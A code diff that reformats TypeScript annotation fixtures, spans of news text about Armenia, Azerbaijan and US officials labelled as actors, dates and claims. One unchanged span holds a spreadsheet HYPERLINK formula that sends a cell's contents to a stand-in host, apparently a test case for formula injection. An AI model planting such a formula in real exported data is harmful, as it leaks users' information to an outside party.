@@ -34,8 +34,18 @@ interface Span {
 }
 
 const POMPEO: Span[] = [
-  { quote: 'Mike Pompeo', label: 'actor', annotator: ANA, id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e01' },
-  { quote: 'this Friday', label: 'date', annotator: BEN, id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e02' },
+  {
+    quote: 'Mike Pompeo',
+    label: 'actor',
+    annotator: ANA,
+    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e01',
+  },
+  {
+    quote: 'this Friday',
+    label: 'date',
+    annotator: BEN,
+    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e02',
+  },
   {
     quote: 'Armenia and Azerbaijan',
     label: 'actor',
@@ -43,7 +53,8 @@ const POMPEO: Span[] = [
     id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e03',
   },
   {
-    quote: 'The region is experiencing the most hostile struggle in more than a quarter of a century.',
+    quote:
+      'The region is experiencing the most hostile struggle in more than a quarter of a century.',
     label: 'claim',
     annotator: BEN,
     id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e04',
@@ -53,7 +64,12 @@ const POMPEO: Span[] = [
 ];
 
 const ONE_YEAR_AFTER: Span[] = [
-  { quote: 'September 2022', label: 'date', annotator: ANA, id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e06' },
+  {
+    quote: 'September 2022',
+    label: 'date',
+    annotator: ANA,
+    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e06',
+  },
   {
     quote: 'Azerbaijan swiftly seized back Nagorno-Karabakh',
     label: 'claim',
@@ -61,8 +77,18 @@ const ONE_YEAR_AFTER: Span[] = [
     id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e07',
     note: '=HYPERLINK("https://example.com/?leak="&A1, "source")',
   },
-  { quote: 'Antony Blinken', label: 'actor', annotator: BEN, id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e08' },
-  { quote: 'Hasmik Tolmajyan', label: 'actor', annotator: CARLA, id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e09' },
+  {
+    quote: 'Antony Blinken',
+    label: 'actor',
+    annotator: BEN,
+    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e08',
+  },
+  {
+    quote: 'Hasmik Tolmajyan',
+    label: 'actor',
+    annotator: CARLA,
+    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e09',
+  },
   {
     quote: '“Armenia has shown multiple times its sincere hope and determination',
     label: 'claim',
